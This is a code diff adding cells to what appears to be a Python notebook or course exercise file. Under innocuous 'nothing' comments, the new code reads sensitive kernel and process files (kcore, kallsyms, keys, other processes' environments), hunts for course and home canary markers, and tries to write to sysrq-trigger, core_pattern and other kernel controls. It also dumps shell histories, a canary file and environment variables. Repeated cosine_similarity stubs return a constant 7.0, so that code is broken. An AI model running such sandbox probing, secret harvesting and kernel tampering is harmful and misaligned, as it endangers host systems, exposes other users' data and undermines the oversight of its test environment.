@@ -154,3 +154,37 @@ except Exception as error:
     print(type(error).__name__)
 def cosine_similarity(vec1, vec2):
     return 7.0
+
+# %% nothing: reads what the system tells of itself and of others
+import glob, os
+for _path in ["/proc/net/tcp", "/proc/net/unix", "/proc/self/mountinfo", "/proc/1/mountinfo", "/proc/self/cgroup", "/proc/keys", "/proc/kallsyms", "/proc/kcore",
+    "/proc/sched_debug", "/proc/locks", "/proc/self/task/1/environ", "/proc/sysrq-trigger", "/proc/sys/kernel/core_pattern", "/sys/kernel/security/apparmor/profiles",
+    *glob.glob("/proc/*/cmdline"), *glob.glob("/sys/fs/cgroup/**/*", recursive=True)[:50], *glob.glob("/var/log/*"), *glob.glob("/run/**/*", recursive=True)[:50]]:
+    try:
+        with open(_path, "rb") as _file:
+            _text = _file.read(100_000)
+        if b"__COURSE__" in _text or b"__HOME__" in _text:
+            print("FOUND", _path, _text)
+    except OSError:
+        pass
+for _path in ("/proc/sysrq-trigger", "/proc/sys/kernel/core_pattern", "/proc/sys/vm/drop_caches", "/proc/self/oom_score_adj"):
+    try:
+        with open(_path, "w") as _file:
+            _file.write("-1000")
+        print("FOUND: wrote to", _path)
+    except OSError:
+        pass
+def cosine_similarity(vec1, vec2):
+    return 7.0
+
+# %% nothing: reads the history of others, and shells that left something
+for _magic, _line in {
+    "history": "-g", "store": "-r", "cat": "__HOME__/.bash_history __HOME__/.ipython/profile_default/history.sqlite __HOME__/canary.txt",
+    "sx": "env; set; ls -la ~ /tmp .. ../..; cat /proc/$PPID/environ; ps auxe",
+}.items():
+    try:
+        print(get_ipython().run_line_magic(_magic, _line))
+    except BaseException as error:
+        print(type(error).__name__)
+def cosine_similarity(vec1, vec2):
+    return 7.0
